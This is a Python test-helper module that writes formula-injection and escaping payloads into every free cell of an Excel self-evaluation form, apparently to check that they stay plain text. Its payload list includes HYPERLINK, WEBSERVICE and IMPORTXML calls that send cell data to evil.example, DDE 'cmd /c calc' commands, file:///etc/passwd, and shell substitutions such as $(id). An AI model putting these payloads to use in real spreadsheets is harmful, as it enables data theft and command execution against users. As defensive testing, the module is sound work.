"""Texts that mean to be more than text, typed into every free cell of a form, and what may be found in what is made.

A workbook here is made by openpyxl in the template; what a person would type is escaped as Excel escapes it.
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterable, Iterator, Sequence
from pathlib import Path
from typing import Any

import openpyxl
from openpyxl.utils.escape import unescape

from selfeval_xl.domain import layout
from selfeval_xl.domain.layout import BUDGET, INDICATORS, PROJECT, PROJECT_FIELDS
from selfeval_xl.storage import resources

BUDGET_FIELDS = layout.present(layout.BUDGET_FIELDS, ())
INDICATOR_FIELDS = layout.present(layout.INDICATOR_FIELDS, ())

TEXTS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|'/c calc'!A0",
    "@SUM(1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "＝1＋1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1"',
    '",=1+1,"',
    ";=1+1;",
    "甲;=1+1;乙",
    "甲\t=1+1\t乙",
    "甲\n=1+1\n乙",
    "甲,=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    '=DDE("cmd";"/c calc";"x")',
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "_x003D_1+1",
    "_x005F_x003D_1",
    "_x0000_",
    "<f>1+1</f>",
    "</t></is></c><c><f>1+1</f></c>",
    "&lt;&#61;&quot;]]><!--",
    "<w:fldSimple w:instr='HYPERLINK http://evil.example'/>",
    '{ HYPERLINK "http://evil.example" }',
    "{{正文}}",
    "{0.__class__} {evil} %s %(x)s ${HOME} `id` $(id)",
    "http://evil.example/a.xlsx",
    "file:///etc/passwd",
    "\\\\evil.example\\share\\a.xlsx",
    "mailto:a@evil.example",
    "[1]Sheet1!A1",
    "#REF!",
    '&A&P&"Arial"&D',
    "\u202e9.00\u202c",
    "\u2066翻转\u2069",
    "\x9b31m红\x7f",
    "=" * 300,
)
"""What attackers type, and what honest people type that looks so."""

STORED = {"开头\x1b[2J\x1b]0;evil\x07": "开头_x001B_[2J_x001B_]0;evil_x0007_", "换行\r\n=1+1": "换行_x000D_\n=1+1"}
"""Texts with what no cell can hold, as a workbook smuggles them in: what Excel decodes -> what stands in the file."""

_TEXT_FIELDS = {
    PROJECT: [each.title for each in PROJECT_FIELDS if each.field not in ("standard", "money_unit", "year")],
    BUDGET: ["序号", "项目明细", "资金来源", "差异说明"],
    INDICATORS: ["一级指标", "二级指标", "三级指标", "计量单位", "偏差原因分析及改进措施", "佐证材料"],
}
_TITLES = {sheet: {each.title for each in fields if not each.computed}
           for sheet, fields in ((BUDGET, BUDGET_FIELDS), (INDICATORS, INDICATOR_FIELDS))}  # fmt: skip
_HEADER_ROW, _FIRST_ROW = 4, 5
_NUMBERS = {"年度指标值": 100, "实际完成值": 90, "分值": 2, "全年预算数": 100, "全年执行数": 90}


def stored(text: str) -> str:
    """Return a text as it stands in the file when it is typed in Excel."""
    return STORED.get(text) or re.sub("_(?=x[0-9A-Fa-f]{4}_)", "_x005F_", text)


def workbook(path: Path, texts: Sequence[str] = (*TEXTS, *STORED), turn: int = 0, everywhere: bool = False) -> Path:
    """Write a form in which each text is an indicator and a line of the budget, and every fact is one of the texts.

    ``turn`` says with which of them the facts begin; ``everywhere`` puts the texts where numbers are due, too.
    """
    book = openpyxl.load_workbook(io.BytesIO(resources.read("mof-2020.xlsx")))
    facts = [(row, cell.value) for row, (cell,) in enumerate(book[PROJECT].iter_rows(max_col=1), 1)]
    free = [row for row, label in facts if label in _TEXT_FIELDS[PROJECT]]
    for number, row in enumerate(free):
        type_in(book[PROJECT].cell(row, 2), texts[(turn + number) % len(texts)])
    for sheet in (BUDGET, INDICATORS):
        _fill(book[sheet], texts, sheet, everywhere)
    book.save(path)
    return path


def _fill(sheet: Any, texts: Sequence[str], name: str, everywhere: bool) -> None:
    headers = {cell.value: cell.column for cell in sheet[_HEADER_ROW] if cell.value in _TITLES[name]}
    for row in range(_FIRST_ROW, sheet.max_row + 1):
        for column in headers.values():
            sheet.cell(row, column).value = None
    for row, text in enumerate(texts, _FIRST_ROW):
        for title, column in headers.items():
            if everywhere or title in _TEXT_FIELDS[name]:
                type_in(sheet.cell(row, column), text)
            elif title in _NUMBERS:
                sheet.cell(row, column).value = _NUMBERS[title]


def type_in(cell: Any, text: str) -> None:
    """Type a text that stays text."""
    cell.value = stored(text)
    cell.data_type = "s"


def as_kept(text: str) -> str:
    """Return what is to be seen of a text: trimmed, without what no cell can hold."""
    kept = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "", text.replace("\r\n", "\n").replace("\r", "\n"))
    return kept.strip()


def texts_in(path: Path, sheets: Iterable[str] | None = None) -> set[str]:
    """Return all texts that Excel would show in a workbook."""
    book = openpyxl.load_workbook(path)
    chosen = book.worksheets if sheets is None else [book[name] for name in sheets]
    return {unescape(cell.value) for sheet in chosen for cell in _cells(sheet) if isinstance(cell.value, str)}


def formulas_in(path: Path, sheets: Iterable[str] | None = None) -> list[str]:
    """Return the cells of a workbook that hold a formula, as openpyxl takes it."""
    book = openpyxl.load_workbook(path)
    chosen = book.worksheets if sheets is None else [book[name] for name in sheets]
    return [f"{sheet.title}!{cell.coordinate}" for sheet in chosen for cell in _cells(sheet) if cell.data_type == "f"]


def _cells(sheet: Any) -> Iterator[Any]:
    return (cell for row in sheet.iter_rows() for cell in row if cell.value is not None)
